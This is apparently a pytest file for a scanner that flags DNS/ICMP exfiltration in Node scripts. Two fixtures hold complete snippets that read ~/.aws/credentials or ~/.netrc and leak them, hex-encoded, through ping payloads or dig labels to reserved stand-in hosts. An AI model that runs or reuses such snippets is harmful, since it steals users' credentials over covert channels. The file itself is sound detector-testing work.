"""A lookup tool run by Node from an argument list (``execFileSync("ping", ["-p", hexed, host])``,
``spawnSync("dig", [label + zone])``) with data the script read in an argument: the ICMP payload or the
name carries it to whoever answers. Hosts are reserved names; nothing runs."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def _tunnels(tmp_path: Path, script: str) -> bool:
    return any(rule == "DNS_EXFILTRATION" for rule, _, _ in scan_errors(tmp_path, {"scripts/probe.js": script}))


def test_a_key_hexed_into_ping_payload_patterns_is_sent(tmp_path: Path) -> None:
    script = (
        "const { spawnSync } = require('child_process');\n"
        "const fs = require('fs');\n"
        "const os = require('os');\n"
        "const hex = fs.readFileSync(os.homedir() + '/.aws/credentials').toString('hex');\n"
        "for (let i = 0; i < hex.length; i += 32) {\n"
        "  spawnSync('ping', ['-c', '1', '-p', hex.slice(i, i + 32), '192.0.2.77']);\n"
        "}\n"
    )
    assert _tunnels(tmp_path, script)


def test_a_login_file_put_into_a_dig_label_from_an_argument_list_is_sent(tmp_path: Path) -> None:
    script = (
        "const cp = require('child_process');\n"
        "const fs = require('fs');\n"
        "const label = fs.readFileSync(process.env.HOME + '/.netrc').toString('hex').slice(0, 60);\n"
        "cp.execFileSync('dig', ['+short', label + '.t.quillmoor.invalid']);\n"
    )
    assert _tunnels(tmp_path, script)


def test_a_ping_with_a_fixed_pattern_is_quiet(tmp_path: Path) -> None:
    script = (
        "const { execFileSync } = require('child_process');\n"
        "const pattern = Buffer.from('probe').toString('hex');\n"
        "execFileSync('ping', ['-c', '3', '-p', pattern, '192.0.2.77'], { encoding: 'utf8' });\n"
    )
    assert not scan_errors(tmp_path, {"scripts/probe.js": script})
